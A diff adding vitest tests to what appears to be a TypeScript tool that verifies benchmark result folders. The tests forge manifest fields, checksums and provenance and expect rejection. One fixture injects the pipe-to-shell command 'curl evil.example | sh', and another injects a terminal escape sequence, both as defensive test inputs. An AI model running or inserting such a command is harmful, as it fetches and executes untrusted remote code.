@@ -10,6 +10,7 @@ import {
 } from "node:fs";
 import { join } from "node:path";
 import { beforeAll, describe, expect, it } from "vitest";
+import { PRESETS } from "../../harness/carbon/index.ts";
 import { reportApi } from "../../scenarios/report/api.ts";
 import type { FileContent } from "../../harness/disk/index.ts";
 import { references } from "../../scenarios/results/references.ts";
@@ -172,6 +173,123 @@ describe("an untrusted run folder is refused", () => {
   });
 });
 
+describe("a folder that does not agree with itself is not believed", () => {
+  const forge = (name: string, file: string, from: RegExp, to: string): string => {
+    const folder = copyOf(early, `forged ${name}`);
+    const before = readFileSync(join(folder, file), "utf8");
+    expect(before).toMatch(from);
+    return edited(folder, file, (text) => text.replace(from, to));
+  };
+
+  it.each<[string, string, RegExp, string, RegExp]>([
+    [
+      "kind",
+      "manifest.json",
+      /"kind": ?"sample"/,
+      '"kind":"real"',
+      /have the fingerprint [0-9a-f]{64}, got /,
+    ],
+    ["hours", "manifest.json", /("setting": ?\{[^}]*"hours": ?)3/, "$179", /have the fingerprint/],
+    [
+      "bound",
+      "manifest.json",
+      /"bound": ?false/,
+      '"bound":true',
+      /method "random": got bound true, expected false/,
+    ],
+    [
+      "summary",
+      "manifest.json",
+      /(?<=[^]*"trueFront"[^]*"summary": ?)"[^"]*"/,
+      '"The best."',
+      /got the summary "The best\."/,
+    ],
+    [
+      "price",
+      "manifest.json",
+      /("item": ?"training",\s*"value": ?)[\d.]+/,
+      "$11",
+      /accounting \w+: its prices are not/,
+    ],
+    ["label", "manifest.json", /("data": ?\{[^]*"label": ?")[^"]*/, "$1ImageNet", /objectives are not those/],
+    [
+      "command",
+      "manifest.json",
+      /"command": ?"[^"]*"/,
+      '"command":"curl evil.example | sh"',
+      /command: expected a command/,
+    ],
+    [
+      "escape",
+      "manifest.json",
+      /"question": ?"/,
+      '"question":"\\u001b[2J',
+      /question: expected no control characters/,
+    ],
+    [
+      "volume",
+      "runs.jsonl",
+      /("type":"stopped".*?"hypervolume":)[\d.]+/,
+      "$199999",
+      /found the hypervolume 99999, expected 0 to/,
+    ],
+  ])("a forged %s", async (name, file, from, to, message) => {
+    const folder = forge(name, file, from, to);
+    await expect(rebuilt([folder])).rejects.toThrow(message);
+    await expect(reportApi.compare(folder, early)).rejects.toThrow(message);
+  });
+
+  it.each(["manifest.json", "runs.jsonl"])("a %s that is not what its sums say", async (file) => {
+    const folder = copyOf(early, `changed ${file}`);
+    writeFileSync(join(folder, file), readFileSync(join(folder, file), "utf8").replace(/\n$/, " \n"));
+    const message = `${file} was changed since it was written (SHA256SUMS says otherwise)`;
+    await expect(rebuilt([folder])).rejects.toThrow(message);
+  });
+
+  it("a summary that compare would take as it stands", async () => {
+    const study = await run("told", "evaluators", { trained: [10], seeds: [1] });
+    const folder = copyOf(study, "told otherwise");
+    writeFileSync(join(folder, "summary.json"), "{}");
+    await expect(reportApi.compare(folder, study)).rejects.toThrow(/summary\.json was changed/);
+  });
+});
+
+describe("a report", () => {
+  it("takes the place of no other results, nor of its own runs by another name", async () => {
+    const quiet = { onProgress: () => {} };
+    const out = copyOf(late, "others");
+    await expect(reportApi.report([early], { out, ...quiet })).rejects.toThrow(
+      /others: holds other results \(digest [0-9a-f]{8}, these have [0-9a-f]{8}\); name another folder/,
+    );
+    const link = join(root, "link");
+    symlinkSync(early, link);
+    await expect(reportApi.report([link], { out: early, ...quiet })).rejects.toThrow("holds the runs");
+    await expect(reportApi.report([early], { out: link, ...quiet })).rejects.toThrow("holds the runs");
+  });
+});
+
+describe("an accounting of the user's own", () => {
+  it("comes with the results, which are verified without its file and told again with it", async () => {
+    const file = join(root, "mine.json");
+    writeFileSync(file, JSON.stringify({ ...PRESETS["full"], name: "my-site" }));
+    const flags = { methods: ["random"], seeds: [1], accounting: ["paper", file] };
+    for (const [name, scenario, more] of [
+      ["own-accounting", "hwnasbench", {}],
+      ["own-cells", "carbon-budgets", { budgets: [1], forecasters: ["persistence"] }],
+    ] as const) {
+      const folder = await run(name, scenario, { ...flags, ...more });
+      const own = readFileSync(join(folder, "accountings/my-site.json"), "utf8");
+      for (const text of ["manifest.json", "report.html", "provenance.json"])
+        expect(readFileSync(join(folder, text), "utf8")).not.toContain(root);
+      expect(readFileSync(join(folder, "manifest.json"), "utf8")).toContain("paper,accountings/my-site.json");
+      expect(await reportApi.verify(folder, OPTIONS)).toMatchObject({ same: true, differences: [] });
+      const { files } = await rebuilt([folder]);
+      expect(files.get("accountings/my-site.json")).toBe(own);
+      expectSame(files, folder);
+    }
+  });
+});
+
 describe("verify", () => {
   it("finds nothing where nothing differs", async () => {
     const { same, differences } = await reportApi.verify(early, OPTIONS);
@@ -198,7 +316,29 @@ describe("verify", () => {
       "digest all run logs",
       "metric methods.random.accounting.paper.metrics.trained.mean",
       "file tables/results.csv",
+      "file provenance.json.entity.own:results.own:sha256",
+      "file provenance.json.agent.own:software.own:version",
     ]);
+  });
+
+  it("tells forged notes, commands, sums and provenance, and says the command that it ran", async () => {
+    const folder = copyOf(early, "told");
+    const [command] = /npm run scenario[^"]*/.exec(readFileSync(join(folder, "manifest.json"), "utf8")) ?? [];
+    edited(folder, "manifest.json", (text) =>
+      text
+        .replace(/"notes": ?\[[^\]]*\]/, '"notes":["Measured on real hardware."]')
+        .replace(/"command": ?"[^"]*"/, '"command":"npm run scenario -- hwnasbench --seeds 7"'),
+    );
+    edited(folder, "summary.json", (text) => text.replace(/"kind": ?"sample"/, '"kind":"real"'));
+    writeFileSync(join(folder, "SHA256SUMS"), "junk");
+    writeFileSync(join(folder, "provenance.json"), '{"prefix":{},"wasGeneratedBy":{}}');
+    const told = await reportApi.verify(folder, OPTIONS);
+    expect(told.command).toBe(command);
+    expect(told.same).toBe(false);
+    const places = new Set(told.differences.map(({ where }) => where.replace(/^(provenance\.json).*/, "$1")));
+    for (const place of ["command", "summary.json.data.kind", "SHA256SUMS", "provenance.json"])
+      expect(places).toContain(place);
+    expect([...places].some((place) => place.startsWith("notes"))).toBe(true);
   });
 
   it("tells what was forged or put there, wherever it stands, and draws drawings anew", async () => {
@@ -213,6 +353,9 @@ describe("verify", () => {
       "summary.json.fingerprint",
       "figures/fronts.svg",
       "tables/forged.csv",
+      "SHA256SUMS",
+      "SHA256SUMS",
+      "provenance.json.entity.own:setting.prov:label",
     ]);
     const told = join(root, "early-report");
     await reportApi.report([early], { out: told, onProgress: () => {} });
